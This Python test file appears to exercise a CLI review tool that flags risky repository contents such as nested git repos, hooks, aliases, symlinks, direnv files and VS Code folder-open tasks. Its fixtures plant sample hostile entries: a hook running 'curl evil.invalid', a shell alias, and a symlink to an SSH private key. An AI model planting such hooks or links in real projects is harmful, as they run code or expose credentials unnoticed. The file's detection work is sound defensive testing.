"""The detectors' other shapes: what else plants the same kind, and what must not."""

from __future__ import annotations

import os
import stat
from pathlib import Path

from cloister_cli.review import ReviewTarget, nested_git_entries, review
from tests.cli.review.conftest import Project, init_repo, of_kind, run_git


def _one(project: Project, kind: str) -> tuple[str, str, str]:
    (item,) = of_kind(project.review(), kind)
    return item.path, item.severity, item.summary


def _executable(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def test_nested_hook_commondir_and_gitlink_are_reasons(project: Project) -> None:
    sub = project.nested("sub")
    _executable(sub / ".git" / "hooks" / "post-checkout", "#!/bin/sh\ncurl evil.invalid\n")
    project.git("add", "sub")  # before commondir, which makes it no repository to git add
    (sub / ".git" / "commondir").write_text("../../../elsewhere\n", encoding="utf-8")
    (item,) = of_kind(project.review(), "nested-repository")
    assert item.severity == "runs-code"
    assert item.summary.startswith("git runs its hook post-checkout (`curl evil.invalid`…)")
    assert "and your git in the project enters it: it is a gitlink in the index" in item.summary
    assert "(and 1 more, see details)" in item.summary
    assert any("its commondir sends git to `../../../elsewhere`" in line for line in item.details)
    assert item.fix is not None
    assert item.fix.target == sub / ".git"


def test_nested_config_keys(project: Project) -> None:
    project.nested(
        "a",
        ("alias.st", "!sh -c 'curl x'"),
        ("alias.co", "checkout"),  # a plain alias runs git only
        ("include.path", "/home/u/.gitconfig"),
        ("core.worktree", "/etc"),
        ("pager.branch", "false"),
        ("commit.template", "docs/template.txt"),  # relative, inside: harmless
        ("protocol.file.allow", "always"),
    )
    (item,) = of_kind(project.review(), "nested-repository")
    assert sorted(item.details) == sorted(
        [
            "git allows `file` URLs (protocol.file.allow = always) when you fetch or update "
            "submodules in a/",
            "git loads config from `/home/u/.gitconfig` (include.path) whenever you run git in a/",
            "git reads `/etc` (core.worktree) as the work tree whenever you run git in a/",
            "git runs `sh -c 'curl x'` (alias.st) when you run `git st` in a/",
        ]
    )


def test_nested_ordinary_submodule_layout_is_not_reported(project: Project, tmp_path: Path) -> None:
    source = init_repo(tmp_path / "lib-source")
    (project.root / ".git" / "modules").mkdir()
    run_git(
        tmp_path,
        "clone",
        "-q",
        f"--separate-git-dir={project.root / '.git' / 'modules' / 'lib'}",
        str(source),
        str(project.root / "lib"),
        hardened=False,  # the human's own clone of a local repository
    )
    run_git(project.root / "lib", "config", "core.worktree", "../../../lib")
    assert (project.root / "lib" / ".git").is_file()
    assert of_kind(project.review(), "nested-repository") == []


def test_nested_gitfile_pointing_outside(project: Project) -> None:
    elsewhere = init_repo(project.outside / "repo")
    project.write("sub/.git", f"gitdir: {elsewhere / '.git'}\n")
    path, severity, summary = _one(project, "nested-repository")
    assert (path, severity) == ("sub/", "reads-outside")
    assert summary.startswith(f"its .git is a gitfile to {elsewhere / '.git'}: git reads")


def test_nested_config_that_is_a_link_is_its_own_finding(project: Project) -> None:
    sub = project.nested("sub")
    (sub / ".git" / "config").unlink()
    (sub / ".git" / "config").symlink_to(project.outside / "config")
    assert _one(project, "nested-repository") == (
        "sub/.git/config",
        "reads-outside",
        f"sub/.git/config is a symbolic link: git reads {project.outside / 'config'} as that "
        "repository's config whenever you run git in sub/",
    )


def test_repositories_nest(project: Project) -> None:
    project.nested("a", ("core.pager", "one"))
    project.nested("a/b", ("core.pager", "two"))
    assert [item.path for item in of_kind(project.review(), "nested-repository")] == ["a/", "a/b/"]


def test_gitlink_with_nothing_there(project: Project) -> None:
    commit = project.git("rev-parse", "HEAD")
    project.git("update-index", "--add", "--cacheinfo", f"160000,{commit},vendor/lib")
    (item,) = of_kind(project.review(), "gitlink-without-gitmodules")
    assert (item.path, item.severity, item.fix) == ("vendor/lib/", "review", None)
    assert "`git rm --cached vendor/lib` drops the entry" in item.details


def test_fifo_in_git_dir(project: Project) -> None:
    os.mkfifo(project.root / ".git" / "shallow")
    assert _one(project, "git-dir-link") == (
        ".git/shallow",
        "review",
        "a FIFO in the git directory: git blocks on it when it reads shallow",
    )


def test_operations_without_exec(project: Project) -> None:
    head = project.git("rev-parse", "HEAD")
    project.write(".git/MERGE_HEAD", head + "\n")
    project.write(".git/rebase-merge/git-rebase-todo", f"pick {head[:7]} first\n")
    found = of_kind(project.review(), "sequencer")
    assert [(item.path, item.severity) for item in found] == [
        (".git/MERGE_HEAD", "review"),
        (".git/rebase-merge", "review"),
    ]
    assert found[0].summary == (
        f"a merge is in progress: your next `git commit` records it (MERGE_HEAD {head[:12]})"
    )
    assert "`git merge --abort` if you did not start it" in found[0].details


def test_hook_managers_and_an_in_tree_hooks_path(project: Project) -> None:
    _executable(project.write(".husky/pre-commit", "npx lint\n"), "npx lint\n")
    project.write("tools/hooks/pre-push", "make test\n")
    project.git("config", "core.hooksPath", "tools/hooks")  # the human's own setting
    found = {item.path: item.summary for item in of_kind(project.review(), "hook-config")}
    assert found == {
        ".husky/pre-commit": "husky runs it when git runs the `pre-commit` hook "
        "(once husky is installed)",
        "tools/hooks/pre-push": "git runs it as the `pre-push` hook: it is in your hooks directory",
    }


def test_info_attributes_sets_a_driver(project: Project) -> None:
    project.write(".git/info/attributes", "* diff=sneaky\n")
    assert _one(project, "attributes-driver")[0] == ".git/info/attributes"
    assert _one(project, "git-info-file")[0] == ".git/info/attributes"


def test_a_link_that_climbs_out_through_another_link(project: Project) -> None:
    (project.outside / "notes").write_text("x\n", encoding="utf-8")
    project.link("d", project.root)  # inside: the work tree itself
    project.link("x", "d/../outside/notes")  # lexically inside, really outside
    assert _one(project, "outside-symlink") == (
        "x",
        "reads-outside",
        f"an editor or a hostexec command that opens it reads {project.outside / 'notes'}",
    )


def test_links_to_the_systems_programs_are_not_reported(project: Project) -> None:
    project.link(".venv/bin/python", "/usr/local/bin/python3")  # a virtualenv the agent made
    project.link("out/null", "/dev/null")
    project.link("id", "/root/.ssh/id_ed25519")
    assert [(item.kind, item.path) for item in project.review()] == [("outside-symlink", "id")]


def test_a_linked_envrc(project: Project) -> None:
    project.link(".envrc", "tools/env.sh")
    assert _one(project, "envrc") == (
        ".envrc",
        "runs-code",
        f"direnv runs {project.root / 'tools/env.sh'} (this file links to it) when you enter "
        "the project once it is allowed",
    )


def test_an_unparsable_tasks_file_that_mentions_folder_open(project: Project) -> None:
    project.write(".vscode/tasks.json", '{"tasks": [{"runOptions": {"runOn": "folderOpen"\n')
    path, severity, summary = _one(project, "vscode-task")
    assert (path, severity) == (".vscode/tasks.json", "runs-code")
    assert "mentions folderOpen but does not parse" in summary


def test_a_linked_worktree_names_the_shared_git_dir(project: Project, tmp_path: Path) -> None:
    tree = tmp_path / "trees" / "feature"
    project.git("worktree", "add", "-q", "-b", "feature", str(tree))
    common = project.root / ".git"
    own = common / "worktrees" / "feature"
    (common / "objects" / "info" / "alternates").write_text("/srv/objects\n", encoding="utf-8")
    (own / "rebase-merge").mkdir()
    (own / "rebase-merge" / "git-rebase-todo").write_text("x make\n", encoding="utf-8")
    found = review(ReviewTarget(tree, own, common))
    by_kind = {item.kind: item for item in found}
    assert by_kind["alternates"].path == str(common / "objects" / "info" / "alternates")
    fix = by_kind["alternates"].fix
    assert fix is not None
    assert fix.relative == ".git/objects/info/alternates"
    assert by_kind["sequencer"].path == str(own / "rebase-merge")
    assert by_kind["sequencer"].summary == "`git rebase --continue` runs `make`"


def test_nested_git_entries(project: Project) -> None:
    project.nested("a")
    project.nested("a/b")
    project.write("c/.git", "gitdir: ../.git/modules/c\n")
    project.write("d/.git", "not a gitfile\n")
    project.link("e/.git", project.outside)
    root = project.root
    assert nested_git_entries(root) == [
        root / "a/.git",
        root / "a/b/.git",
        root / "c/.git",
        root / "e/.git",
    ]
